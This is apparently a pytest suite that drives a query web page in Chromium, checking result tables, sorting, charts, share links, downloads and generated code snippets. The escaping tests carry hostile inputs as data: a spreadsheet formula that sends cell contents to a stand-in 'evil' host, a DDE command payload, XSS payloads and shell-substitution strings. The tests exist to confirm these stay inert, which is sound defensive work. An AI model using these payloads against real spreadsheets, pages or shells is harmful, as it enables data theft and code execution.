"""The answers of the query page in a real Chromium: as rows, drawn, compared with an earlier one, and taken away."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from typing import TYPE_CHECKING, Any

import pytest

from tests.web.query_pages import PAIRS, SMALL, query_page
from tests.web.serving import ROOT

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.web.query_pages import QueryPage
    from tests.web.serving import Server

pytestmark = pytest.mark.browser
AWKWARD = (
    'SELECT ?x WHERE { # it\'s "quoted" `back` $HOME \\ !\n'
    '  VALUES ?x { "it\'s" \'a "b" $HOME `id` \\\\ %s\' """three "" lines\n)-- )- $(id)""" }\n}'
)
CHANGED = "{} rows are the same, 2 are new (marked “new” in the table), 1 is gone."


@pytest.fixture
def opened(browser: Any, server: Server) -> Iterator[QueryPage]:
    with query_page(browser, server) as page:
        yield page


def test_things_lead_to_their_pages(opened: QueryPage) -> None:
    opened.run(
        "SELECT ?body ?name ?other { VALUES ?body { body:unece-wp8 } ?body rdfs:label ?name BIND (<urn:x> AS ?other) }"
    )
    links = opened.page.eval_on_selector_all(
        "#answer td a", "all => all.map(a => [a.getAttribute('href'), a.textContent])"
    )
    named = ["/id/body/unece-wp8", "Working Party on Industry and Enterprise Development"]
    assert links == [named, named]
    assert opened.rows()[0][2] == "urn:x"
    opened.page.click("#answer td a")
    opened.page.wait_for_url("**/bodies/unece-wp8.html")


def test_rows_are_sorted_by_value(opened: QueryPage) -> None:
    opened.run(SMALL)
    column = opened.page.locator("thead button[data-column=meetings]")
    column.click()
    assert [row[1] for row in opened.rows()] == ["2", "3", "11"]
    opened.page.keyboard.press("Enter")
    assert [row[1] for row in opened.rows()] == ["11", "3", "2"]
    assert opened.page.get_attribute("th[aria-sort]", "aria-sort") == "descending"
    opened.page.keyboard.press("Enter")
    assert [row[1] for row in opened.rows()] == ["3", "11", "2"]


def test_long_answers_are_shown_in_parts(opened: QueryPage) -> None:
    opened.run("SELECT ?s ?p { ?s ?p ?o } ORDER BY ?s ?p LIMIT 1700")
    assert len(opened.rows()) == 500
    assert "500 of 1,700 rows are shown" in opened.page.inner_text(".more")
    opened.page.click(".more button")
    assert len(opened.rows()) == 1500
    opened.page.click(".more button")
    assert len(opened.rows()) == 1700


def test_passages_stand_beside_each_row_and_lead_to_them(opened: QueryPage) -> None:
    pattern = "?d a smepb:Decision ; smepb:citation/smepb:citedDocument doc:unece-wp8-session-2"
    opened.run(f"SELECT ?d {{ {pattern} }} ORDER BY ?d LIMIT 4", evidence=True)
    links = opened.page.eval_on_selector_all("td.source a.para", "all => all.map(a => a.getAttribute('href'))")
    assert len(links) >= 4
    for link in links:
        page, _, anchor = link.partition("#")
        assert f'id="{anchor}"' in opened.server.ask(page).text
    assert "evidence=1" in opened.page.get_attribute("[data-format=csv]", "href")


def test_yes_or_no_and_graphs_are_told_as_what_they_are(opened: QueryPage) -> None:
    opened.run("ASK { ?x a smepb:Meeting }")
    assert opened.page.inner_text(".verdict") == "Yes"
    opened.run("ASK { ?x a smepb:Nothing }")
    assert opened.page.inner_text(".verdict") == "No"
    assert "no proof" in opened.page.inner_text(".truth")
    opened.run("CONSTRUCT { ?x rdfs:label ?l } WHERE { VALUES ?x { body:unece-wp8 } ?x rdfs:label ?l }")
    assert "body:unece-wp8 rdfs:label" in opened.page.inner_text(".turtle")
    assert opened.page.is_disabled("#evidence")
    formats = opened.page.eval_on_selector_all("[data-format]", "all => all.map(one => one.dataset.format)")
    assert formats == ["ttl", "nt", "rdf", "jsonld"]
    opened.choose("meetings-by-year")
    assert opened.page.is_enabled("#evidence")


def test_a_chart_of_numbers_and_a_timeline_of_dates(opened: QueryPage) -> None:
    opened.run(SMALL)
    opened.page.click("[data-drawing=chart]")
    chart = opened.page.locator("#drawing-chart svg")
    assert opened.page.inner_text("#drawing-chart figcaption") == "Meetings by name"
    assert "3 bars; largest: two, 11; smallest: ten, 2" in chart.get_attribute("aria-label")
    widths = chart.locator("rect").evaluate_all("all => all.map(one => one.getBBox().width)")
    assert widths[1] == pytest.approx(widths[0] * 11 / 3)
    opened.page.select_option("#chart-order", "size")
    assert chart.locator("g title").all_text_contents() == ["two: 11", "one: 3", "ten: 2"]
    opened.page.click("[data-drawing=timeline]")
    line = opened.page.locator("#drawing-timeline svg")
    assert line.locator("g title").all_text_contents() == ["2000-05-04: ten", "2001-03: one", "2002: two"]
    lengths = line.locator("rect").evaluate_all("all => all.map(one => one.getBBox().width)")
    assert lengths[2] == pytest.approx(lengths[1] * 365 / 31, rel=0.01)
    assert len(opened.rows()) == 3


def test_a_map_is_offered_only_where_one_can_be_made(opened: QueryPage) -> None:
    opened.run(SMALL)
    assert opened.page.locator("[data-drawing=map]").count() == 0
    opened.run(PAIRS)
    opened.page.click("[data-drawing=map]")
    frame = opened.page.frame_locator(".map-frame")
    frame.locator("#map canvas").wait_for()
    assert "12 of 12 links shown" in frame.locator("body").inner_text()
    address = opened.page.get_attribute("#drawing-map a", "href")
    own = opened.page.context.new_page()
    own.goto(opened.server.address.rstrip("/") + address)
    own.wait_for_selector("#map canvas")


def test_a_link_keeps_question_values_and_answer(browser: Any, server: Server) -> None:
    with query_page(browser, server) as first:
        first.choose("mandates-of-body")
        first.page.get_by_role("combobox", name="The body").fill("WP.8")
        first.page.keyboard.press("Enter")
        first.run(evidence=True)
        link, rows = first.link(), first.rows()
    with query_page(browser, server, after=link.removeprefix(f"{server.address}query")) as second:
        second.page.wait_for_selector("#changes")
        assert second.rows() == rows
        words = second.page.inner_text("#changes")
        assert "same version" in words
        assert "The answer is the same." in words
        assert second.page.is_checked("#evidence")
        assert second.page.input_value("#parameter-body") == "Working Party on Industry and Enterprise Development"


@pytest.mark.parametrize("question", ["mandates-of-body", ""])
def test_a_link_of_another_version_says_what_changed(opened: QueryPage, question: str) -> None:
    if question:
        opened.choose(question)
    opened.run()
    count = len(opened.rows())
    link = re.sub(r"version=\w+", "version=0123456789abcdef", opened.link())
    words = opened.follow(link)
    assert "another version" in words
    assert "Nothing in this answer has changed." in words
    assert CHANGED.format(count - 2) in opened.follow(re.sub(r"rows=.{8}", "rows=AAAA", link))
    assert opened.page.locator("tr.fresh").count() == 2
    assert "The link is damaged." in opened.follow(re.sub(r"rows=.{3}", "rows=", link))


def test_a_link_to_a_long_answer_compares_it_as_a_whole(opened: QueryPage) -> None:
    opened.run("SELECT ?s ?p { ?s ?p ?o } LIMIT 450")
    link = opened.link()
    assert len(link) < 400
    assert "Nothing in this answer has changed." in opened.follow(re.sub(r"version=.", "version=_", link))
    assert "it had 450 rows, and has 450 rows now" in opened.follow(re.sub(r"whole=.", "whole=_", link))


def test_downloads_hold_the_answer_under_a_sensible_name(opened: QueryPage) -> None:
    opened.choose("meetings-by-year")
    opened.run()
    for form in ("csv", "xlsx", "json"):
        with opened.page.expect_download() as downloading:
            opened.page.click(f"[data-format={form}]")
        assert downloading.value.suggested_filename == f"smegraph-meetings-by-year.{form}"
        content = downloading.value.path().read_bytes()
        assert content == opened.server.query(opened.text, format=form).body
    rows = list(csv.reader(io.StringIO(opened.server.query(opened.text, format="csv").text)))
    assert rows[1:] == opened.rows()


def test_no_cell_of_a_spreadsheet_is_a_formula(server: Server, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    hostile = ['=HYPERLINK("http://evil/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "plain"]
    query = f"SELECT ?x {{ VALUES ?x {{ {' '.join(json.dumps(text) for text in hostile)} }} }}"
    book = tmp_path / "answer.xlsx"
    book.write_bytes(server.query(query, format="xlsx").body)
    cells = [row[0] for row in openpyxl.load_workbook(book).active.iter_rows(min_row=2)]
    assert [(cell.data_type, cell.value) for cell in cells] == [("s", text) for text in hostile]
    sheet = list(csv.reader(io.StringIO(server.query(query, format="sheet").body.decode("utf-8-sig"))))
    assert [row[0] for row in sheet[1:]] == [*(f"'{text}" for text in hostile[:-1]), "plain"]


def test_hostile_values_are_text_in_every_view(browser: Any, server: Server) -> None:
    attack = '"</script><script>alert(1)</script>" "<img src=x onerror=alert(2)>" "{{7*7}}" "javascript:alert(3)"'
    query = f"""SELECT ?name ?link ?n ?day {{ VALUES ?name {{ {attack} }}
  BIND (IRI("javascript:alert(4)") AS ?link) BIND (3 AS ?n) BIND ("2001"^^xsd:gYear AS ?day) }}"""
    with query_page(browser, server) as opened:
        opened.run(query)
        assert [row[0] for row in opened.rows()][:2] == [
            "</script><script>alert(1)</script>",
            "<img src=x onerror=alert(2)>",
        ]
        opened.page.click("[data-drawing=chart]")
        opened.page.click("[data-drawing=timeline]")
        opened.page.evaluate("document.querySelector('.programs').open = true")
        assert opened.page.locator("#answer a[href^='javascript']").count() == 0
        assert opened.page.locator("#answer img, #answer script").count() == 0
        link = opened.link().removeprefix(f"{server.address}query")
    with query_page(browser, server, after=link) as again:
        again.page.wait_for_selector("#changes")
        assert len(again.rows()) == 4


def run_program(command: list[str], **variables: str) -> str:
    done = subprocess.run(
        command, capture_output=True, text=True, timeout=60, check=False, env={**os.environ, **variables}
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_the_programs_give_the_same_answer_whatever_the_query_holds(opened: QueryPage) -> None:
    opened.run(AWKWARD)
    expected = [row["x"]["value"] for row in opened.server.query(AWKWARD).json()["results"]["bindings"]]
    assert len(expected) == 3
    curl = run_program(["bash", "-c", opened.snippet("curl")])
    assert [row[0] for row in csv.reader(io.StringIO(curl))][1:] == expected
    for language in ("python", "urllib"):
        printed = run_program([sys.executable, "-c", opened.snippet(language)], PYTHONPATH=str(ROOT))
        assert printed == "".join(f"{ {'x': value} }\n" for value in expected), language
    raw = re.search(r'r"(-*)\((.*)\)\1"', opened.snippet("r"), re.DOTALL)
    assert raw is not None
    assert raw[2] == AWKWARD
    assert f'){raw[1]}"' not in AWKWARD


def test_the_programs_know_passages_graphs_and_yes_or_no(opened: QueryPage) -> None:
    opened.run("SELECT ?m { ?m a smepb:Mandate } ORDER BY ?m LIMIT 2", evidence=True)
    for language in ("python", "urllib"):
        assert "paragraph" in run_program([sys.executable, "-c", opened.snippet(language)], PYTHONPATH=str(ROOT))
    opened.run("ASK {}")
    for language in ("python", "urllib"):
        assert run_program([sys.executable, "-c", opened.snippet(language)], PYTHONPATH=str(ROOT)) == "True\n"
    opened.run("CONSTRUCT WHERE { body:unece rdfs:label ?l }")
    for language in ("python", "urllib", "curl"):
        command = ["bash", "-c"] if language == "curl" else [sys.executable, "-c"]
        assert "United Nations Economic" in run_program([*command, opened.snippet(language)], PYTHONPATH=str(ROOT))
